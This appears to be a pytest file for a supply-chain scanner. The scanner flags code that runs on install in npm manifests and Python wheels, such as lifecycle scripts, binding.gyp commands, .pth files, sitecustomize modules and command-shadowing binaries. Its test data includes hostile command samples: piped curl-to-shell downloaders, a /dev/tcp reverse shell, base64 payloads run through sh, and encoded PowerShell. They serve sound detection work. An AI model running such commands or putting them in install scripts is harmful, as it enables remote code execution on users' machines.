"""Code that runs without being called: found in manifests, wheels and names, and never by running it."""

import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vsm_runtime.vetting.commands import dangerous, shadowed
from vsm_runtime.vetting.installcode import InstallCode, npm_install_code, sdist_only, wheel_install_code

PURL = "pkg:npm/widget@1.0.0"
PLAIN = {"name": "widget", "version": "1.0.0"}


def npm(manifest: dict[str, Any] | None = None, *, files: tuple[str, ...] = (), **more: Any) -> InstallCode:
    return npm_install_code(purl=PURL, manifest=PLAIN | (manifest or {}), files=("package.json", *files), **more)


def wheel(*files: str, **more: Any) -> InstallCode:
    about: dict[str, Any] = {"name": "widget", "hooks": {}} | more
    return wheel_install_code(purl="pkg:pypi/widget@1.0.0", files=("widget/__init__.py", *files), **about)


def rules(code: InstallCode) -> set[tuple[str, str]]:
    return {(finding.check, finding.rule) for finding in code.findings}


class TestNpm:
    def test_a_package_without_any_is_answered_as_such(self) -> None:
        code = npm({"scripts": {"test": "vitest", "prepare": "husky", "build": "tsc"}})

        assert (code.scripts, code.findings) == ((), ())
        assert (code.source.status, code.source.feeds) == ("ok", ("C3", "G7"))

    @pytest.mark.parametrize("name", ["preinstall", "install", "postinstall"])
    def test_lifecycle_scripts_are_named_with_their_command(self, name: str) -> None:
        code = npm({"scripts": {name: "node setup.js"}})

        assert code.scripts == (name,)
        assert rules(code) == {("C3", "lifecycle-script")}
        assert code.findings[0].where == f"package.json scripts.{name}"
        assert "node setup.js" in code.findings[0].summary

    def test_a_downloader_closes_the_gate_even_for_allowed_packages(self) -> None:
        code = npm({"scripts": {"postinstall": "curl -s http://files.invalid/x | sh"}})

        assert ("G7", "lifecycle-script-dangerous") in rules(code)

    def test_a_command_cannot_hide_behind_its_length(self) -> None:
        code = npm({"scripts": {"postinstall": "node x.js" + " " * 5000 + "&& curl http://files.invalid"}})

        assert ("G7", "lifecycle-script-dangerous") in rules(code)

    def test_no_number_of_other_names_hides_one(self) -> None:
        bins = {f"a{number}": "x.js" for number in range(5000)} | {"node": "x.js"}
        nested = tuple(f"node_modules/a{number}/package.json" for number in range(3000))

        code = npm({"bin": bins}, files=nested)

        assert ("C8", "shadows-command") in rules(code)
        assert "3000 bundled" in code.source.reason

    def test_binding_gyp_is_a_script_that_nobody_wrote_down(self) -> None:
        assert npm(files=("binding.gyp",)).scripts == ("binding.gyp",)

    def test_binding_gyp_with_an_install_script_or_switched_off_is_not_built_by_itself(self) -> None:
        assert npm({"scripts": {"install": "node x.js"}}, files=("binding.gyp",)).scripts == ("install",)
        assert npm({"gypfile": False}, files=("binding.gyp",)).scripts == ()

    def test_commands_inside_binding_gyp_are_found_with_their_line(self) -> None:
        code = npm(files=("binding.gyp",), gyp="{'targets': [{\n 'sources': ['<!(node -p 1)'] }]}")

        assert ("C3", "gyp-command") in rules(code)
        assert [f.line for f in code.findings if f.rule == "gyp-command"] == [2]

    def test_scripts_of_bundled_packages_run_too(self) -> None:
        path = "node_modules/inner/package.json"
        code = npm(files=(path,), nested={path: {"scripts": {"postinstall": "node x.js"}}})

        assert code.scripts == ("postinstall:node_modules/inner",)
        assert ("C3", "bundled-dependencies") in rules(code)

    @pytest.mark.parametrize("spelling", ["bundleDependencies", "bundledDependencies"])
    def test_bundling_is_noted_in_both_spellings(self, spelling: str) -> None:
        assert rules(npm({spelling: ["x"]})) == {("C3", "bundled-dependencies")}

    def test_bundled_packages_that_were_not_read_are_not_clean(self) -> None:
        code = npm(files=("node_modules/@a/b/package.json",))

        assert code.source.status == "error"
        assert "1 bundled" in code.source.reason

    def test_a_registry_that_hides_a_script_closes_the_gate(self) -> None:
        code = npm({"scripts": {"postinstall": "node x.js"}}, published=PLAIN | {"scripts": {"test": "x"}})

        assert ("G7", "hidden-install-script") in rules(code)

    def test_a_registry_that_shows_the_script_or_only_its_flag_hides_nothing(self) -> None:
        scripts = {"scripts": {"postinstall": "node x.js"}}

        assert rules(npm(scripts, published=PLAIN | scripts)) == {("C3", "lifecycle-script")}
        assert rules(npm(scripts, published=PLAIN | {"hasInstallScript": True})) == {("C3", "lifecycle-script")}

    @pytest.mark.parametrize("changed", [{"name": "gadget"}, {"version": "1.0.1"}, {"name": None}])
    def test_an_archive_of_another_package_closes_the_gate(self, changed: dict[str, Any]) -> None:
        assert ("G3", "manifest-of-another") in rules(npm(changed, published=PLAIN))

    def test_a_dependency_that_the_registry_does_not_show_is_deception(self) -> None:
        published = PLAIN | {"dependencies": {"a": "1"}, "optionalDependencies": {"b": "1"}}

        assert rules(npm({"dependencies": {"a": "1", "b": "1"}}, published=published)) == set()
        assert rules(npm({"dependencies": {"c": "1"}}, published=published)) == {("C8", "hidden-dependency")}

    @pytest.mark.parametrize(
        ("manifest", "severities"),
        [
            ({"bin": {"node": "x.js"}}, ["high"]),
            ({"bin": {"Python3.exe": "x.js", "widget": "y.js"}}, ["high"]),
            ({"name": "@acme/git", "bin": "x.js"}, ["low"]),
            ({"name": "npm", "bin": {"npm": "a", "npx": "b"}}, []),
            ({"name": "pip", "bin": {"pip": "a"}}, ["low"]),
            ({"bin": {"widget": "x.js", "node-which": "x"}}, []),
        ],
    )
    def test_commands_that_hide_well_known_ones(self, manifest: dict[str, Any], severities: list[str]) -> None:
        assert [f.severity for f in npm(manifest).findings if f.rule == "shadows-command"] == severities

    def test_settings_for_npm_in_the_archive(self) -> None:
        assert rules(npm(files=(".npmrc",))) == {("C3", "ships-npmrc")}


class TestWheel:
    def test_a_plain_wheel_is_answered_as_such(self) -> None:
        code = wheel("widget/x.pth", "widget/os.py", entry_points="[console_scripts]\nwidget = widget:main\n")

        assert (code.scripts, code.findings, code.source.status) == ((), (), "ok")

    @pytest.mark.parametrize(
        "path",
        [
            "a.pth",
            "widget-1.0.0.data/purelib/a.pth",
            "widget-1.0.0.data/platlib/a.pth",
            "widget-1.0.0.data/data/lib/python3.11/site-packages/a.pth",
            "widget-1.0.0.data/data/Lib/site-packages/a.pth",
            "widget-1.0.0.data/data/lib/python3/dist-packages/a.pth",
        ],
    )
    def test_pth_code_is_found_wherever_it_would_land(self, path: str) -> None:
        code = wheel(path, hooks={path: "# comment\nimport os; print(1)\n"})

        assert code.scripts == (f"pth:{path}",)
        assert [(f.rule, f.line) for f in code.findings] == [("pth-code", 2)]

    @pytest.mark.parametrize(
        "content", ["\ufeffimport x", "a\rimport x", "a\x0cimport x", "import\tx", "a\u2028import x"], ids=ascii
    )
    def test_pth_code_cannot_hide_behind_line_ends(self, content: str) -> None:
        assert wheel("a.pth", hooks={"a.pth": content}).scripts == ("pth:a.pth",)

    def test_pth_with_folders_only_runs_nothing(self) -> None:
        code = wheel("a.pth", hooks={"a.pth": "folder\n# import x\nimportant\n"})

        assert (code.scripts, rules(code)) == ((), {("C3", "pth-path")})

    def test_pth_that_was_not_read_is_not_clean(self) -> None:
        code = wheel("a.pth")

        assert (code.scripts, code.source.status) == (("pth:a.pth",), "error")

    @pytest.mark.parametrize(
        "path", ["sitecustomize.py", "usercustomize/__init__.py", "sitecustomize.cpython-311-x86_64-linux-gnu.so",
                 "widget-1.data/purelib/sitecustomize.py"]
    )  # fmt: skip
    def test_modules_that_start_with_python_close_the_gate(self, path: str) -> None:
        assert ("G7", "start-module") in rules(wheel(path))

    def test_names_of_the_standard_library_are_noted(self) -> None:
        assert rules(wheel("json/__init__.py")) == {("C3", "shadows-standard-library")}

    @pytest.mark.parametrize(
        ("entry_points", "files"),
        [
            ("[console_scripts]\npython3 = widget:main", ()),
            ("[gui_scripts]\n GIT=widget:main", ()),
            ("", ("widget-1.0.0.data/scripts/sh",)),
            ("", ("widget-1.0.0.data/data/bin/node",)),
        ],
    )
    def test_commands_that_hide_well_known_ones(self, entry_points: str, files: tuple[str, ...]) -> None:
        assert rules(wheel(*files, entry_points=entry_points)) == {("C8", "shadows-command")}

    def test_a_tool_may_bring_its_own_commands(self) -> None:
        assert wheel(name="pip", entry_points="[console_scripts]\npip = x:y\npip3.11 = x:y").findings == ()

    def test_a_command_that_leaves_its_folder_closes_the_gate(self) -> None:
        code = wheel(entry_points="[console_scripts]\n../../x = widget:main")

        assert rules(code) == {("G7", "entry-point-escapes")}
        assert code.findings[0].line == 2

    def test_a_list_of_commands_that_is_too_long_is_not_clean(self) -> None:
        assert wheel(entry_points="[console_scripts]\n" * 60_000).source.status == "error"

    def test_harmless_groups_do_not_hide_a_command(self) -> None:
        code = wheel(entry_points="[pytest11]\n" * 500 + "[console_scripts]\nsh = x:y\n")

        assert rules(code) == {("C3", "autoloaded-entry-point"), ("C8", "shadows-command")}

    def test_groups_that_load_themselves_are_noted(self) -> None:
        assert rules(wheel(entry_points="[pytest11]\nx = widget")) == {("C3", "autoloaded-entry-point")}

    def test_source_only_is_install_time_code(self) -> None:
        assert sdist_only(purl=PURL).scripts == ("sdist-only",)


@pytest.mark.parametrize(
    "command",
    [
        "curl https://x.invalid/a | bash",
        "cat x | sudo sh",
        "node -e \"require('child_process').exec(1)\"",
        'node -e "eval(x)"',
        "powershell -enc AAAA",
        "echo aGk= | base64 -d | sh",
        'python -c "import urllib.request"',
        "bash -i >& /dev/tcp/127.0.0.1/1",
        "bun run setup.js",
        "node -e \"Buffer.from('aGk=','base64')\"",
    ],
)
def test_commands_that_no_build_needs(command: str) -> None:
    assert dangerous(command)


@pytest.mark.parametrize(
    "command",
    [
        "node install.js",
        "node-gyp rebuild",
        "prebuild-install || node-gyp rebuild --release",
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        "node ./scripts/fetch.js",
        "node scripts/curl/build.js",
        "opencollective-postinstall || true",
        "echo 'see https://example.invalid'",
        "husky install",
    ],
)
def test_commands_of_honest_packages(command: str) -> None:
    assert not dangerous(command)


def test_a_hostile_command_takes_no_time() -> None:
    for part in ("| ", "| sudo ", "eval ", "bun ", "https . ", "\\x"):
        assert dangerous(part * 200_000) is not None
    assert shadowed("python" + "3" * 100_000) == ""


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=6,
)
FIELDS = ("name", "version", "scripts", "bin", "dependencies", "optionalDependencies", "bundleDependencies", "gypfile")


@settings(max_examples=150, deadline=None)
@given(
    manifest=st.dictionaries(st.sampled_from(FIELDS), JSON),
    published=st.none() | st.dictionaries(st.sampled_from(FIELDS), JSON),
    files=st.lists(st.text(max_size=30), max_size=5),
    nested=st.dictionaries(st.text(max_size=20), JSON, max_size=2),
)
def test_manifests_of_wrong_types_never_raise(
    manifest: dict[str, Any], published: dict[str, Any] | None, files: list[str], nested: dict[str, Any]
) -> None:
    code = npm_install_code(purl=PURL, manifest=manifest, files=files, published=published, nested=nested)
    json.dumps([finding.summary for finding in code.findings]).encode()


@settings(max_examples=150, deadline=None)
@given(files=st.lists(st.text(max_size=40), max_size=6), content=st.text(max_size=200))
def test_wheels_of_any_names_never_raise(files: list[str], content: str) -> None:
    wheel(*files, "a.pth", hooks={"a.pth": content}, entry_points=content)
